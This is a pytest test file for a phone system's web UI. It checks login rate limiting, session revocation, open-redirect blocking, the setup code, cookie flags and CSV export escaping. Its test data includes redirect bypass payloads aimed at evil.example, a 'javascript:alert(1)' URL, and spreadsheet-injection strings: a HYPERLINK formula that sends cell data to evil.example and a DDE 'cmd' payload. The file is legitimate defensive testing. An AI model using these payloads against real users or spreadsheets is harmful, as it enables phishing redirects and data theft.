"""Issue 9 in the web UI: login limits per account and per address, sessions the server can end,
redirects that stay on this site, the first-run setup code, the session key kept apart from
the configuration, CSV cells a spreadsheet will not run, and the cookie's flags."""

from __future__ import annotations

import csv
import io
import logging
import sqlite3
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from flask.testing import FlaskClient

from firmware.store import Store, load_yaml, new_call_id
from firmware.store.db import SESSION_KEY_SECRET, SETUP_CODE_SECRET, apply_migrations
from tests.webui.conftest import (
    ADMIN_PASSWORD,
    OFFICE_YAML,
    csrf_of,
    finish_first_step,
    log_in_as_admin,
    post,
    put_config,
    setup_code_of,
)
from webui import create_app
from webui.security import LoginLimiter, local_path

AGENT_101 = {"user": "101", "password": "pw-101-secret"}
WRONG_ADMIN = {"user": "admin", "password": "a wrong guess"}


def from_address(app: Flask, address: str) -> FlaskClient:
    """A browser at `address` (the limiter counts by the client's address)."""
    client = app.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    return client


def logged_in(client: FlaskClient, page_path: str) -> bool:
    return client.get(page_path).status_code == 200


# --------------------------------------------------------------------- item 4: login limits


def test_an_agents_own_logins_buy_no_more_guesses_at_the_admins_password(
    client: FlaskClient,
) -> None:
    statuses = []
    for _round in range(3):
        for _guess in range(2):
            statuses.append(post(client, "/login", WRONG_ADMIN).status_code)
        # The agent logs in as themself in between (before: this forgot the address's failures).
        statuses.append(post(client, "/login", AGENT_101).status_code)
        post(client, "/logout", form_page="/login")
    # The fifth failure from this address came in round three: from there on the address
    # waits, whoever it tries.
    assert statuses == [401, 401, 302, 401, 401, 302, 401, 429, 429]
    assert post(client, "/login", WRONG_ADMIN).status_code == 429
    assert post(client, "/login", {"user": "admin", "password": ADMIN_PASSWORD}).status_code \
        == 429


def test_guesses_at_one_account_from_many_addresses_are_limited(app: Flask) -> None:
    for n in range(10):  # LOGIN_ACCOUNT_ATTEMPTS, each address staying under its own limit
        assert post(from_address(app, f"192.0.2.{n + 1}"), "/login",
                    WRONG_ADMIN).status_code == 401
    newcomer = from_address(app, "192.0.2.200")
    response = post(newcomer, "/login", WRONG_ADMIN)
    assert response.status_code == 429
    assert "Слишком много неудачных попыток" in response.get_data(as_text=True)
    # Only that account waits: an agent at the same address logs in.
    assert post(newcomer, "/login", AGENT_101).status_code == 302


def test_a_success_forgets_its_own_accounts_failures_only() -> None:
    limiter = LoginLimiter(attempts_per_address=3, attempts_per_account=3, window_s=60.0)
    for now in (0.0, 1.0):
        limiter.failed("admin", "192.0.2.1", now=now)
        limiter.failed("101", "192.0.2.2", now=now)
    limiter.failed("101", "192.0.2.1", now=2.0)
    limiter.succeeded("101")
    assert limiter.retry_after("101", "192.0.2.2", now=3.0) == 0  # its count is gone
    # 192.0.2.1 failed three times (twice on admin, once on 101): the address waits.
    assert limiter.retry_after("admin", "192.0.2.1", now=3.0) == 57
    assert limiter.retry_after("102", "192.0.2.1", now=3.0) == 57
    assert limiter.retry_after("admin", "192.0.2.9", now=3.0) == 0  # 2 of 3 on the account


def test_the_limiter_forgets_old_failures_instead_of_growing_without_bound() -> None:
    from webui import security

    limiter = LoginLimiter(attempts_per_address=5, attempts_per_account=5, window_s=10.0)
    for n in range(security.MAX_TRACKED_KEYS + 10):
        limiter.failed(f"user{n}", "192.0.2.1", now=float(n) * 0.001)
    assert len(limiter._failures) <= security.MAX_TRACKED_KEYS + 2


def test_a_failed_login_is_logged_with_the_source_address(
    app: Flask, caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.WARNING, logger="webui.auth")
    post(from_address(app, "198.51.100.7"), "/login",
         {"user": "admin\r\nforged line", "password": "x"})
    lines = [r.getMessage() for r in caplog.records if r.name == "webui.auth"]
    assert lines == ["web UI login failed for user 'admin\\r\\nforged line' from 198.51.100.7"]


# ------------------------------------------------------------------ item 5: ending sessions


def cookie_of(client: FlaskClient) -> str:
    cookie = client.get_cookie("session")
    assert cookie is not None
    return cookie.value


def with_cookie(app: Flask, value: str) -> FlaskClient:
    """Another browser presenting a copy of a session cookie (as a thief would)."""
    thief = app.test_client()
    thief.set_cookie("session", value)
    return thief


def test_a_copied_cookie_is_dead_after_logout(app: Flask, admin: FlaskClient) -> None:
    copied = cookie_of(admin)
    assert logged_in(with_cookie(app, copied), "/monitor")
    post(admin, "/logout", form_page="/monitor")
    response = with_cookie(app, copied).get("/monitor")
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")


def test_logout_ends_every_session_of_that_user_only(app: Flask) -> None:
    first, second = app.test_client(), app.test_client()
    agent = app.test_client()
    for browser in (first, second):
        assert post(browser, "/login", {"user": "admin", "password": ADMIN_PASSWORD}) \
            .status_code == 302
    assert post(agent, "/login", AGENT_101).status_code == 302
    post(first, "/logout", form_page="/monitor")
    assert not logged_in(second, "/monitor")
    assert logged_in(agent, "/me")


def test_an_agents_sessions_end_when_the_admin_gives_them_a_new_password(
    app: Flask, admin: FlaskClient,
) -> None:
    agent = app.test_client()
    post(agent, "/login", AGENT_101)
    copied = cookie_of(agent)
    assert logged_in(agent, "/me")
    response = post(admin, "/employees/101/password", form_page="/employees/101")
    assert response.status_code == 200
    assert not logged_in(agent, "/me")
    assert not logged_in(with_cookie(app, copied), "/me")


def test_a_password_changed_by_an_import_ends_the_sessions_made_with_the_old_one(
    app: Flask,
) -> None:
    agent, other = app.test_client(), app.test_client()
    post(agent, "/login", AGENT_101)
    post(other, "/login", {"user": "102", "password": "pw-102-secret"})

    def new_password(data: dict[str, Any]) -> None:
        data["extensions"][0]["password"] = "a-brand-new-secret"

    put_config(app, new_password)  # as `linebox config import` or a restore would
    assert not logged_in(agent, "/me")
    assert logged_in(other, "/me")


def test_the_admin_changes_their_password_and_other_admin_sessions_end(
    app: Flask, admin: FlaskClient,
) -> None:
    elsewhere = log_in_as_admin(app.test_client())
    wrong = post(admin, "/system/password", {"current": "not it", "new_password": "new pass 42",
                                             "confirm": "new pass 42"}, form_page="/system")
    assert wrong.status_code == 400
    assert "This is not the current password." in wrong.get_data(as_text=True)
    response = post(admin, "/system/password", {
        "current": ADMIN_PASSWORD, "new_password": "new pass 42", "confirm": "new pass 42"},
        form_page="/system")
    assert response.status_code == 302
    assert logged_in(admin, "/system")  # this browser carries on with a new session
    assert not logged_in(elsewhere, "/monitor")
    fresh = app.test_client()
    assert post(fresh, "/login", {"user": "admin", "password": ADMIN_PASSWORD}).status_code \
        == 401
    assert post(fresh, "/login", {"user": "admin", "password": "new pass 42"}).status_code \
        == 302


def test_sessions_are_kept_on_the_server_as_hashes_and_bounded_per_user(app: Flask) -> None:
    client = app.test_client()
    for _login in range(app.config["SESSIONS_PER_ACCOUNT"] + 5):
        post(client, "/login", AGENT_101)
    with sqlite3.connect(app.config["DB"]) as db:
        rows = db.execute("SELECT id_hash FROM webui_sessions WHERE account = ?",
                          ("extension:101",)).fetchall()
    assert len(rows) == app.config["SESSIONS_PER_ACCOUNT"]
    with client.session_transaction() as session:
        session_id = session["sid"]
    assert all(session_id not in row[0] for row in rows)
    assert logged_in(client, "/me")  # the newest is among those kept


def test_a_session_past_its_lifetime_is_refused(app: Flask) -> None:
    client = app.test_client()
    post(client, "/login", AGENT_101)
    with sqlite3.connect(app.config["DB"]) as db:
        db.execute("UPDATE webui_sessions SET created_at = created_at - ?",
                   (app.permanent_session_lifetime.total_seconds() + 1,))
    assert not logged_in(client, "/me")


# ------------------------------------------------------------------- item 10: open redirect

BYPASSES = [  # (the raw query value, as an attacker writes it in a link)
    "//evil.example/", "/%5Cevil.example/", "/%5C%5Cevil.example/", "%5C%5Cevil.example/",
    "/%09/evil.example/", "/%0A/evil.example/", "/%0D%0A/evil.example/", "/%20/evil.example/",
    "%2F%2Fevil.example/", "/%2F/evil.example/", "/%252F/evil.example/", "/%2509/evil.example/",
    "https://evil.example/", "https:evil.example", "javascript:alert(1)", "evil.example",
    "/%E2%80%AE/evil.example/", "/%00/evil.example/", "///evil.example/",
]


@pytest.mark.parametrize("target", BYPASSES)
def test_login_never_redirects_to_another_site(client: FlaskClient, target: str) -> None:
    token = csrf_of(client)
    response = client.post(f"/login?next={target}", data={
        "user": "admin", "password": ADMIN_PASSWORD, "csrf_token": token})
    assert response.status_code == 302
    assert response.headers["Location"] == "/"


@pytest.mark.parametrize("back", [
    "//evil.example/", "/\\evil.example/", "/\t/evil.example/", "/\r\n/evil.example/",
    "https://evil.example/", "/%2F/evil.example/", "/%09/evil.example/", "\\\\evil.example",
])
def test_the_language_switch_never_redirects_to_another_site(client: FlaskClient,
                                                             back: str) -> None:
    response = post(client, "/language/en", {"back": back}, form_page="/login")
    assert response.headers["Location"] == "/"


def test_local_paths_are_kept() -> None:
    assert local_path("/employees/101") == "/employees/101"
    assert local_path("/reports?from=2026-05-04&to=2026-05-05") == \
        "/reports?from=2026-05-04&to=2026-05-05"
    token = "/monitor"
    assert local_path(token) == token


def test_login_follows_a_local_next(client: FlaskClient) -> None:
    token = csrf_of(client)
    response = client.post("/login?next=/employees", data={
        "user": "admin", "password": ADMIN_PASSWORD, "csrf_token": token})
    assert response.headers["Location"] == "/employees"


# ------------------------------------------------------------ item 14: the first-run code


def test_the_first_run_page_asks_for_the_setup_code(fresh_app: Flask) -> None:
    page = fresh_app.test_client().get("/setup").get_data(as_text=True)
    assert 'name="code"' in page and "Код настройки" in page


@pytest.mark.parametrize("code", ["", "0000-0000-0000", "guess"])
def test_the_first_run_is_refused_without_the_right_code(fresh_app: Flask, code: str) -> None:
    client = fresh_app.test_client()
    response = post(client, "/setup", {"code": code, "password": "long enough",
                                       "confirm": "long enough"})
    assert response.status_code in (400, 403)
    assert 'id="e-code"' in response.get_data(as_text=True)
    with Store.open(fresh_app.config["DB"]) as store:
        assert store.admin_password_hash() is None
    assert client.get("/setup/provider").headers["Location"].startswith("/login")


def test_the_code_is_read_as_written_on_the_console(fresh_app: Flask) -> None:
    code = setup_code_of(fresh_app)
    typed = code.lower().replace("-", " ").replace("0", "o").replace("1", "l")
    response = post(fresh_app.test_client(), "/setup", {
        "code": typed, "password": "long enough", "confirm": "long enough"})
    assert response.headers["Location"] == "/setup/provider"


def test_setup_code_guesses_are_limited(fresh_app: Flask) -> None:
    for n in range(fresh_app.config["LOGIN_ACCOUNT_ATTEMPTS"]):
        guesser = from_address(fresh_app, f"192.0.2.{n + 1}")
        response = post(guesser, "/setup", {"code": "AAAA-AAAA-AAAA",
                                            "password": "long enough",
                                            "confirm": "long enough"})
        assert response.status_code == 403
    # From then on even the right code waits (it is compared in constant time, and rarely).
    owner = from_address(fresh_app, "192.0.2.250")
    response = post(owner, "/setup", {"code": setup_code_of(fresh_app),
                                      "password": "long enough", "confirm": "long enough"})
    assert response.status_code == 429


def test_the_code_is_gone_once_the_admin_exists(fresh_app: Flask) -> None:
    code = setup_code_of(fresh_app)
    finish_first_step(fresh_app.test_client(), fresh_app)
    with Store.open(fresh_app.config["DB"]) as store:
        assert store.setup_code() is None
        assert store.web_secret(SETUP_CODE_SECRET) is None
    again = post(fresh_app.test_client(), "/setup", {
        "code": code, "password": "another one", "confirm": "another one"}, form_page="/login")
    assert again.headers["Location"] == "/"


def test_one_code_serves_every_process_of_the_box(tmp_path: Path) -> None:
    db = tmp_path / "box.db"
    first = create_app({"DB": str(db), "TESTING": True})
    second = create_app({"DB": str(db), "TESTING": True})
    assert setup_code_of(first) == setup_code_of(second)
    assert len(setup_code_of(first).replace("-", "")) == 12


# ----------------------------------------------------- item 3: the session key stays apart


def test_the_session_key_is_in_its_own_table_and_survives_a_restore(tmp_path: Path) -> None:
    db = tmp_path / "box.db"
    with Store.open(db) as store:
        store.replace_config(load_yaml(OFFICE_YAML))
    app = create_app({"DB": str(db), "TESTING": True})
    with Store.open(db) as store:
        key = store.web_secret(SESSION_KEY_SECRET)
        setting = store.db.execute(
            "SELECT COUNT(*) FROM settings WHERE value LIKE ?", (f"%{key}%",)).fetchone()[0]
    assert key == app.secret_key and setting == 0
    finish_first_step(app.test_client(), app, ADMIN_PASSWORD)
    admin = log_in_as_admin(app.test_client())
    backup = admin.get("/system/backup").get_data(as_text=True)
    assert key not in backup
    restored = post(admin, "/system/restore", {
        "file": (io.BytesIO(backup.encode()), "linebox-config.yaml")}, form_page="/system",
        content_type="multipart/form-data")
    assert restored.status_code == 302
    with Store.open(db) as store:
        assert store.web_secret(SESSION_KEY_SECRET) == key
    assert logged_in(admin, "/system")
    assert create_app({"DB": str(db), "TESTING": True}).secret_key == key


def test_an_older_database_keeps_its_session_key_in_the_new_table(tmp_path: Path) -> None:
    from sqlite_utils import Database

    from firmware.store.db import MIGRATIONS

    db = Database(tmp_path / "old.db")
    apply_migrations(db, MIGRATIONS[:6])
    db.execute("INSERT INTO settings (key, value) VALUES ('webui_secret_key', '\"abc123\"')")
    db.conn.commit()
    apply_migrations(db)
    assert db.execute("SELECT value FROM webui_secrets WHERE name = 'session_key'") \
        .fetchone() == ("abc123",)
    assert db.execute("SELECT COUNT(*) FROM settings WHERE key = 'webui_secret_key'") \
        .fetchone() == (0,)
    db.close()


# ------------------------------------------------------------- item 14: the cookie's flags


def test_the_session_cookie_is_secure_over_https(client: FlaskClient) -> None:
    token = csrf_of(client, "/login")
    over_http = client.post("/login", data={"user": "admin", "password": ADMIN_PASSWORD,
                                            "csrf_token": token})
    assert "Secure" not in over_http.headers["Set-Cookie"]
    secure = client.application.test_client()
    page = secure.get("/login", base_url="https://localhost")
    token = page.get_data(as_text=True).split('name="csrf_token" value="')[1].split('"')[0]
    response = secure.post("/login", base_url="https://localhost", data={
        "user": "admin", "password": ADMIN_PASSWORD, "csrf_token": token})
    cookie = response.headers["Set-Cookie"]
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Strict" in cookie


def test_a_forwarded_proto_header_alone_does_not_make_the_cookie_secure(
    client: FlaskClient,
) -> None:
    # Without a trusted proxy waitress removes the header; the app never reads it itself.
    token = csrf_of(client, "/login")
    response = client.post("/login", headers={"X-Forwarded-Proto": "https"}, data={
        "user": "admin", "password": ADMIN_PASSWORD, "csrf_token": token})
    assert "Secure" not in response.headers["Set-Cookie"]


# ------------------------------------------------------------------- item 11: CSV exports

MOSCOW = ZoneInfo("Europe/Moscow")


def test_caller_numbers_reach_the_csv_as_text_not_formulas(app: Flask,
                                                           admin: FlaskClient) -> None:
    callers = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+79161234567",
               "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tTAB", "74951112233"]
    started = datetime(2026, 5, 4, 12, 0, tzinfo=MOSCOW).timestamp()
    with Store.open(app.config["DB"]) as store:
        for n, caller in enumerate(callers):
            call_id = new_call_id()
            store.record_finished_calls([({
                "id": call_id, "started_at": started + n, "ended_at": started + n + 20,
                "direction": "inbound", "source": "trunk:provider", "caller": caller,
                "dialed": "74951234567", "number": "74951234567", "department": "200",
                "end_cause": "test", "outcome": "missed", "sip_call_id": call_id,
            }, [])])
    response = admin.get("/reports/missed.csv?from=2026-05-04&to=2026-05-04")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert sorted(row["caller"] for row in rows) == sorted([
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "+79161234567",
        "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'\tTAB", "74951112233"])
